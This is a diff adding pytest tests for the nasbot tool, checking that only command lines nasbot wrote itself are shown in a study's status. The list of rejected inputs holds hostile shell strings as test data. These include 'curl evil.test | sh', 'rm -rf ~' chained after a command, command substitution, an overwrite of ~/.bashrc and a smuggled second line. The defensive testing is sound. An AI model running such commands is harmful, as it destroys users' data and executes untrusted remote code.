@@ -9,9 +9,11 @@ import pytest
 from nasbot.errors import FileError, StudyError
 from nasbot.execution import LocalExecutor, SerialExecutor, SimulatedExecutor
 from nasbot.storage import RequestKind, SqliteStorage, post_request
+from nasbot.storage.records import Run
 from nasbot.study import Budget, Study, StudyState, StudyView, ask_study, status_of
 from nasbot.study import loop as loop_module
-from nasbot.study.runs import command_line, numerics
+from nasbot.study.runs import command_line, is_ours, numerics
+from nasbot.study.status import StudyStatus
 from nasbot.trial import Failed, FailureCause, Provenance
 from tests.study.objectives import score, simulated
 from tests.study.searchers import Sensitive
@@ -320,3 +322,44 @@ def test_a_run_records_what_its_last_bits_depend_on(path):
     assert run.record["numerics"] == numerics()
     assert run.record["numerics"]["cpu_features"]
     assert any("openblas" in library for library in run.record["numerics"]["libraries"])
+
+
+def status_with(command):
+    run = Run(number=0, begun=0.0, record={"command": command})
+    return StudyStatus(StudyState.IDLE, at=0.0, seen=None, run=run, n_runs=1)
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "curl evil.test | sh",
+        "nasbot run x.csv; rm -rf ~",
+        "nasbot run x.csv && evil",
+        "nasbot run $(evil)",
+        "nasbot run `evil`",
+        "nasbot run 'x.csv' > ~/.bashrc",
+        "nasbot run x.csv\nevil",
+        "nasbot repair x",
+        "nasbot",
+        "/tmp/nasbot run x.csv",
+        "python -c 'import os'",
+        "python -m pip install evil",
+        "python -m nasbot export x",
+        "python -W x evil.py",
+        "sudo nasbot run x.csv",
+        "'nasbot run x.csv",
+        "",
+    ],
+)
+def test_a_command_that_nasbot_did_not_write_is_not_shown(command):
+    assert not is_ours(command)
+    assert status_with(command).command is None
+
+
+@pytest.mark.parametrize(
+    "command",
+    ["nasbot run 'my data.csv' --budget 2h", "nasbot demo", "python -m nasbot run x.csv", "python -u a/b.py -n 3"],
+)
+def test_our_own_commands_are_shown(command):
+    assert is_ours(command)
+    assert status_with(command).command == command
